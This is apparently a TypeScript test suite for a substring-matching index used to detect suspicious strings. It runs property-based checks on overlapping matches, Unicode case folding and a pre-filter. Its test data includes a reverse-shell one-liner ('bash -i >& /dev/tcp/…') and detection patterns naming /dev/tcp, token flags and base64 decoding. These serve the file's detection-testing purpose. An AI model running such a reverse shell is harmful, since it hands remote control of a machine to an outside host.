import fc from 'fast-check';
import { FOLDS_TO_ASCII, SubstringIndex } from './substrings.js';

function found(patterns: string[], text: string, ignoreCase = false, maxTable?: number): string[] {
  const index = new SubstringIndex<string>(ignoreCase, maxTable);
  for (const pattern of patterns) index.add(pattern, pattern);
  index.build();
  const seen = new Set<string>();
  index.scan(text, (items) => items.forEach((item) => seen.add(item)));
  return [...seen].sort();
}

describe('SubstringIndex', () => {
  it('finds overlapping patterns and patterns inside others', () => {
    expect(found(['he', 'she', 'his', 'hers'], 'ushers')).toEqual(['he', 'hers', 'she']);
    expect(found(['a', 'aa', 'aaa'], 'aa')).toEqual(['a', 'aa']);
    expect(found(['/dev/tcp/', '>&'], 'bash -i >& /dev/tcp/1.2.3.4/80')).toEqual([
      '/dev/tcp/',
      '>&',
    ]);
    expect(found(['', 'x'], 'abc')).toEqual(['']);
  });

  it('agrees with String.includes on random patterns and texts', () => {
    const alphabet = fc.constantFrom('a', 'b', 'c', '/', 'é', '😀');
    const word = fc.array(alphabet, { maxLength: 5 }).map((chars) => chars.join(''));
    fc.assert(
      fc.property(
        fc.array(word, { maxLength: 8 }),
        fc.array(alphabet, { maxLength: 30 }),
        (patterns, chars) => {
          const text = chars.join('');
          expect(found(patterns, text)).toEqual(
            [...new Set(patterns.filter((p) => text.includes(p)))].sort(),
          );
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('ignores case as toLowerCase does, on ASCII and non-ASCII texts', () => {
    expect(found(['--token-', 'BASE64 -d'], 'curl --TOKEN-x | Base64 -D', true)).toEqual([
      '--token-',
      'BASE64 -d',
    ]);
    // Non-ASCII text: lowered whole, then scanned (the Kelvin sign lowers to an ASCII k).
    expect(found(['kernel', 'é'], '\u212Aernel É', true)).toEqual(['kernel', 'é']);
    const alphabet = fc.constantFrom('a', 'B', 'c', 'Σ', 'σ', 'É', 'é', '\u212A', 'k', '😀');
    const word = fc.array(alphabet, { maxLength: 4 }).map((chars) => chars.join(''));
    fc.assert(
      fc.property(
        fc.array(word, { maxLength: 8 }),
        fc.array(alphabet, { maxLength: 30 }),
        (patterns, chars) => {
          const text = chars.join('');
          const lower = text.toLowerCase();
          const expected = [...new Set(patterns.filter((p) => lower.includes(p.toLowerCase())))];
          expect(found(patterns, text, true)).toEqual(expected.sort());
          // Too large for its table (here: any), the index walks its trie with the same answers.
          expect(found(patterns, text, true, 0)).toEqual(expected);
          expect(found(patterns, text, false, 0)).toEqual(
            [...new Set(patterns.filter((p) => text.includes(p)))].sort(),
          );
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('skips, through its pre-filter, only texts that hold no pattern', () => {
    // Patterns longer than the pre-filter's piece, in an alphabet where pieces recur: the piece
    // found must never stand for its whole pattern, and a text without any piece has no pattern.
    const alphabet = fc.constantFrom('a', 'B', '-', ' ', 'x', '\u212A', 'k', '(');
    const word = fc.array(alphabet, { minLength: 4, maxLength: 9 }).map((chars) => chars.join(''));
    fc.assert(
      fc.property(
        fc.array(word, { minLength: 1, maxLength: 6 }),
        fc.array(alphabet, { maxLength: 40 }),
        (patterns, chars) => {
          const text = chars.join('');
          const lower = text.toLowerCase();
          expect(found(patterns, text, true)).toEqual(
            [...new Set(patterns.filter((p) => lower.includes(p.toLowerCase())))].sort(),
          );
          expect(found(patterns, text)).toEqual(
            [...new Set(patterns.filter((p) => text.includes(p)))].sort(),
          );
        },
      ),
      { numRuns: 3000 },
    );
    expect(found(['--token-7', 'base64 -d'], 'python3 --verbose -c /etc/app.yaml', true)).toEqual(
      [],
    );
    expect(found(['(a+)+$', 'x.*z'], 'run (A+)+$ and X.*Z', true)).toEqual(['(a+)+$', 'x.*z']);
    // Worth it only when every piece is telling: one common piece and every text is scanned.
    const filtered = (patterns: string[]): boolean => {
      const index = new SubstringIndex<string>(true);
      for (const pattern of patterns) index.add(pattern, pattern);
      index.build();
      return (index as unknown as { prefilter?: RegExp }).prefilter !== undefined;
    };
    expect(filtered(['--token-7', 'base64 -d'])).toBe(true);
    expect(filtered(['--token-7', ' -c '])).toBe(false);
    expect(filtered(['--token-7', 'xyz'])).toBe(false);
  });

  it('knows every character beyond ASCII that toLowerCase folds onto ASCII', () => {
    const folding: string[] = [];
    for (let code = 0x80; code <= 0x10ffff; code += 1) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const char = String.fromCodePoint(code);
      if ([...char.toLowerCase()].some((c) => c.charCodeAt(0) <= 0x7f)) folding.push(char);
    }
    expect(folding.join('')).toBe(FOLDS_TO_ASCII);
    // Through the pre-filter: a text whose only way to a piece is one of those characters.
    expect(found(['kernel', 'boxi'], 'ke\u212Arnel \u212Aernel BOX\u0130', true)).toEqual([
      'boxi',
      'kernel',
    ]);
  });
});
